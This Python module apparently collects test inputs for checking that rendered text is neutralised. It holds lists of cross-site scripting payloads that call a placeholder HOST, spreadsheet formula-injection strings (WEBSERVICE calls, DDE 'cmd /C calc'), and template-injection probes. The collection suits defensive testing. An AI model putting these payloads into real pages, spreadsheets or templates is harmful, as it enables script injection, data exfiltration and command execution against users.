"""Texts that attack whoever shows them: as HTML, as a formula of a spreadsheet, as a template. HOST is a server."""

HTML = """\
<script>fetch('HOST/s')</script>
<script src=HOST/s.js></script>
</script><script>fetch('HOST/s')</script>
<img src=HOST/i>
<img src=x onerror=fetch('HOST/e')>
"><img src=HOST/i>
'><img src='HOST/i'>
" onmouseover="fetch('HOST/o')" autofocus onfocus="fetch('HOST/o')
' autofocus onfocus='fetch("HOST/o")
<svg onload=fetch('HOST/l')>
<svg><script>fetch('HOST/s')</script></svg>
<svg><image href=HOST/i></svg>
<svg><animate onbegin=fetch('HOST/b') attributeName=x>
<math><mtext></form><form><mglyph><style></math><img src=HOST/i>
<iframe src=HOST/f></iframe>
<iframe srcdoc="<img src=HOST/f>"></iframe>
<object data=HOST/o></object>
<embed src=HOST/o>
<link rel=stylesheet href=HOST/c>
<style>@import 'HOST/c';</style>
<style>body{background:url(HOST/c)}</style>
</style><img src=HOST/i>
<p style="background:url(HOST/c)">x</p>
<meta http-equiv=refresh content="0;url=HOST/m">
<base href=HOST/>
<video src=HOST/v autoplay onerror=fetch('HOST/e')></video>
<audio src=HOST/v autoplay>
<input autofocus onfocus=fetch('HOST/o')>
<details open ontoggle=fetch('HOST/t')><summary>x</summary></details>
<body onload=fetch('HOST/l')>
<form action=HOST/a><button autofocus onfocus=this.form.submit()>
--><script>fetch('HOST/s')</script><!--
<!--><img src=HOST/i>-->
]]><script>fetch('HOST/s')</script>
</title><img src=HOST/i>
</textarea><img src=HOST/i>
<<script>fetch('HOST/s')//<</script>
<scr<script>ipt>fetch('HOST/s')</scr</script>ipt>
&lt;script&gt;fetch('HOST/s')&lt;/script&gt;
&#60;img src=HOST/i&#62;
\\u003cimg src=HOST/i\\u003e
%3Cimg src=HOST/i%3E
＜img src=HOST/i＞
<img src="HOST/i
![x](HOST/i)
[x](javascript:fetch('HOST/j'))
<a href=javascript:fetch('HOST/j')>x</a>
<x onpointerrawupdate=fetch('HOST/o')>x
<template><img src=HOST/i></template>
<noscript><p title="</noscript><img src=HOST/i>">
""".splitlines()

FORMULAS = [
    "=1+1",
    '=HYPERLINK("HOST/h","open")',
    '=WEBSERVICE("HOST/w")',
    '=IMPORTXML("HOST/w","//a")',
    '=IMAGE("HOST/i")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "{=1+1}",
    "＝1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    '=DDE("cmd";"/C calc";"x")',
    "%0A=1+1",
    "HOST/plain-address",
    "mailto:x@example.org",
    "internal:Data!A1",
]

TEMPLATES = [
    "{{7*7}}",
    "{{ config }}",
    "{{ ''.__class__.__mro__ }}",
    "{% for x in () %}{% endfor %}",
    "{% include 'style.css' %}",
    "{# comment #}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(name)s",
    "$$x^2$$",
    "\\(x\\)",
]

TEXTS = [*HTML, *FORMULAS, *TEMPLATES]
